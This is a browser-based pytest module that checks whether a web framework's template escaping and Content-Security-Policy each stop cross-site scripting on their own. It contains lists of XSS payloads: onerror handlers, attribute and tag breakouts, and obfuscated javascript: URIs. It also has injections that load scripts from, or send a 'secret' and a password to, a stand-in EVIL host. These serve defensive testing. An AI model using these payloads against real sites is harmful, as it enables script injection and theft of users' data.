"""What strangers wrote, shown in a real browser: our templates make text of it; where they do not, the policy stands.

Escaping is judged with the policy taken off, the policy with escaping taken off: each stops it alone.
"""

import asyncio
import re
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Annotated, Any

import jinja2
import pytest
import pytest_asyncio
from fastapi import FastAPI, Query, Request, Response
from playwright.async_api import Page

from buckler import Csp, Public
from buckler.pages import Templates
from tests.browser.bed import Bed, Pages, Site, in_browser
from tests.browser.till import Missing
from tests.input.scripts_of_strangers import RUNNING
from tests.proof import two_sided_async
from tests.stage import production
from tests.waiting import wait_until_async
from tests.wire import ask

pytestmark = in_browser

ANY = [Public("a page")]
IMAGE = "<img src=x onerror=owned()>"
BREAKING = (
    f'">{IMAGE}',
    f"'>{IMAGE}",
    f"</title>{IMAGE}",
    f"</textarea>{IMAGE}",
    f"--></title>{IMAGE}",
    f"</p></body></html>{IMAGE}",
    f"{{{{7*7}}}}</p>{IMAGE}",
    f'\\">{IMAGE}',
    f"&lt;{IMAGE}",
    f"report.pdf{IMAGE}.png",
    f"ada{IMAGE}@example.com",
    f"O'Brien\"{IMAGE}",
)
"""Closes what it stands in: a note, the name of an account, the name of a file."""
LEADING = (
    "javascript:owned()",
    "JaVaScRiPt:owned()",
    "java\tscript:owned()",
    "\x01javascript:owned()",
    " javascript:owned()",
)
TEXTS = (*[each for each in RUNNING if "autofocus" not in each][::2], *BREAKING, *LEADING)
"""Without what waits for the focus, which one frame alone can have."""
SHOWN = """<!doctype html><html lang="en"><head><title>{{ text }}</title></head><body>
<h1>{{ text }}</h1><p title="{{ text }}">quoted</p><p title='{{ text }}'>quoted</p><input value="{{ text }}">
<ul><li>{{ text }}</li></ul><a href="{{ text }}">its page</a><textarea>{{ text }}</textarea></body></html>"""
HOLE = "<!doctype html><title>hole</title><main>%s</main><script src='own.js'></script>"
OWN = """window.own = 1;
const it = document.querySelector('[data-run]'); if (it) setTimeout(it.dataset.run, 0);"""
OWNED = "window.ran = 0; window.owned = () => { window.ran += 1; };"
IN_FRAMES = """async count => {
    const all = [...Array(count).keys()].map(at => new Promise(done => {
        const frame = document.createElement('iframe');
        frame.src = '/shown/' + at; frame.onload = () => done(frame);
        document.body.append(frame);
    }));
    const frames = await Promise.all(all);
    for (const frame of frames)
        for (const link of frame.contentDocument.querySelectorAll('a'))
            if (link.protocol === 'javascript:') link.click();
    // The scripts of clicked links come in their turn; frames for what waits for an animation.
    await new Promise(done => setTimeout(() => requestAnimationFrame(() => requestAnimationFrame(done))));
    return frames.map(frame => frame.contentWindow.ran > 0);
}"""


def _app(origin: str, show: Any, without: tuple[str, ...], csp: Csp | None) -> FastAPI:
    app = FastAPI()
    Missing(app, without=without, settings=production(origin=origin), csp=csp)

    @app.get("/", dependencies=ANY)
    async def front() -> Response:
        return Response("<!doctype html><title>here</title><body>", media_type="text/html")

    @app.get("/shown/{at}", dependencies=ANY)
    async def shown(request: Request, at: int) -> Response:
        return Response(show(request, TEXTS[at]), media_type="text/html")

    @app.get("/hole", dependencies=ANY)
    async def hole(html: Annotated[str, Query(max_length=2000)]) -> Response:
        return Response(HOLE % html, media_type="text/html")

    @app.get("/own.js", dependencies=ANY)
    async def own() -> Response:
        return Response(OWN, media_type="text/javascript")

    @app.get("/nonce", dependencies=ANY)
    async def nonce(request: Request) -> Response:
        value = request.state.csp_nonce
        return Response(f"<!doctype html><script nonce='{value}'>own = 1</script>", media_type="text/html")

    return app


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def templates(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Path]:
    folder = tmp_path_factory.mktemp("templates")
    (folder / "shown.html").write_text(SHOWN)
    yield folder


Serve = Any


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def serve(bed: Bed, templates: Path) -> Serve:
    """A site whose pages are escaped or not, with the defences but these, under this policy."""
    ours = Templates(templates)
    theirs = jinja2.Environment(loader=jinja2.FileSystemLoader(templates), autoescape=False)  # noqa: S701 - the twin

    def escaped(request: Request, text: str) -> str:
        return ours.html(request, "shown.html", {"text": text})

    def raw(_: Request, text: str) -> str:
        return theirs.get_template("shown.html").render(text=text)

    async def one(*without: str, escapes: bool = False, csp: Csp | None = None) -> Site:
        return await bed.serve(lambda origin: _app(origin, escaped if escapes else raw, without, csp))

    return one


@pytest.mark.asvs("1.2.1", "3.2.2")
async def test_what_strangers_wrote_is_text(serve: Serve, page: Page) -> None:
    """In titles, texts, values and addresses; without escaping nearly all of it runs, and the policy stops that too."""
    await page.add_init_script(OWNED)

    async def attack(target: Site) -> bool:
        await page.goto(target.at())
        ran = await page.evaluate(IN_FRAMES, len(TEXTS))
        through = [text for text, is_one in zip(TEXTS, ran, strict=True) if is_one]
        assert len(through) == 0 or len(through) > len(TEXTS) - 6, [each for each in TEXTS if each not in through]
        return bool(through)

    await two_sided_async(attack, whole=await serve("headers", escapes=True), twin=await serve("headers"))
    assert not await attack(await serve(csp=Csp(frame_ancestors=["'self'"])))


INJECTED = {
    "script": "<script>owned()</script>",
    "handler": IMAGE,
    "script from elsewhere": "<script src='EVIL/evil.js'></script>",
    "base": "<base href='EVIL/'>",
    "code in a text": "<b data-run='owned()'>x</b>",
    "guessed nonce": "<script nonce='AAAAAAAAAAAAAAAAAAAAAA'>owned()</script>",
    "data": "<script src='data:text/javascript,owned()'></script>",
    "frame of a script": "<iframe srcdoc='<script>parent.owned()</script>'></iframe>",
    "object": "<object data='EVIL/told'></object>",
    "embed": "<embed src='EVIL/told'>",
    "frame": "<iframe src='EVIL/told'></iframe>",
    "picture that tells": "<img src='EVIL/told?secret'>",
    "style that tells": "<style>@import 'EVIL/told?secret';</style>",
}


def _into(target: Site, html: str, theirs: Pages) -> str:
    return target.at("/hole?html=" + re.sub("[&#+%]", "", html.replace("EVIL", theirs.origin)))


@pytest.mark.asvs("3.4.3")
async def test_what_is_injected_does_nothing(serve: Serve, page: Page, evil: Pages) -> None:
    """No script, whoever wrote the hole; nothing is loaded from elsewhere, nothing told. Our own script runs."""
    await page.add_init_script(OWNED)
    for path in ("/evil.js", "/own.js"):
        evil.answer(path, 200, "owned()", content_type="text/javascript")

    async def attack(target: Site) -> bool:
        worked = []
        for name, html in INJECTED.items():
            evil.received.clear()
            await page.goto(_into(target, html, evil))
            await page.evaluate("() => new Promise(done => setTimeout(done))")
            if await page.evaluate("() => ran > 0") or evil.got("/told"):
                worked.append(name)
            assert name == "base" or await page.evaluate("() => own === 1")
        assert worked in ([], [*INJECTED]), worked
        return bool(worked)

    await two_sided_async(attack, whole=await serve(), twin=await serve("headers"))


@pytest.mark.asvs("3.4.3")
async def test_no_form_sends_elsewhere_what_is_typed(serve: Serve, page: Page, evil: Pages) -> None:
    """A password that a browser fills in, for one."""
    form = "<form action='EVIL/typed' method=post><input name=password value=secret></form>"
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text))

    async def attack(target: Site) -> bool:
        said.clear()
        evil.received.clear()
        await page.goto(_into(target, form, evil))
        await page.evaluate("() => setTimeout(() => document.forms[0].submit())")
        await wait_until_async(lambda: bool(evil.got("/typed")) or any("form-action" in each for each in said))
        return bool(evil.got("/typed"))

    await two_sided_async(attack, whole=await serve(), twin=await serve("headers"))


async def test_where_types_are_trusted_no_text_becomes_markup(serve: Serve, page: Page) -> None:
    """Script of our own that puts a text into a page fails there and then; without the policy it does it."""

    async def attack(target: Site) -> bool:
        await page.goto(target.at())
        return bool(
            await page.evaluate(
                "() => { try { document.body.innerHTML = '<b>x</b>'; return true } catch { return false } }"
            )
        )

    await two_sided_async(attack, whole=await serve(csp=Csp(trusted_types=True)), twin=await serve())


@pytest.mark.asvs("3.4.7")
async def test_what_was_stopped_is_told_to_us(
    serve: Serve, page: Page, evil: Pages, caplog: pytest.LogCaptureFixture
) -> None:
    """Also where the policy only measures: then the script runs, and the line in the log is there."""
    await page.add_init_script(OWNED)

    def told() -> list[str]:
        return [each.message for each in caplog.records if '"csp_violation"' in each.message]

    async def attack(target: Site) -> bool:
        """Whether nobody hears of it."""
        caplog.clear()
        opened = await page.goto(_into(target, "<script>owned()</script>", evil))
        assert opened is not None
        if "reporting-endpoints" in opened.headers:
            await wait_until_async(lambda: bool(told()))
        return not told()

    await two_sided_async(attack, whole=await serve(csp=Csp()), twin=await serve("headers", csp=Csp()))
    assert not await attack(await serve(csp=Csp(report_only="measured first")))
    assert await page.evaluate("() => ran === 1")


async def test_every_page_has_a_nonce_of_its_own(serve: Serve, page: Page) -> None:
    """Two hundred at once; each names its own in its policy, and the browser runs the script that carries it."""
    site = await serve(csp=Csp())
    host = site.host
    answers = await asyncio.gather(*(ask(site.app, "GET", "/nonce", host=host) for _ in range(200)))
    shown = {found[1] for each in answers if (found := re.search(rb"nonce='([^']+)'", each.body))}
    assert len(shown) == 200
    for each in answers:
        nonce = re.search(rb"nonce='([^']+)'", each.body)
        assert nonce is not None
        assert f"'nonce-{nonce[1].decode()}'" in (each.header("content-security-policy") or "")
    await page.goto(site.at("/nonce"))
    assert await page.evaluate("() => own === 1")
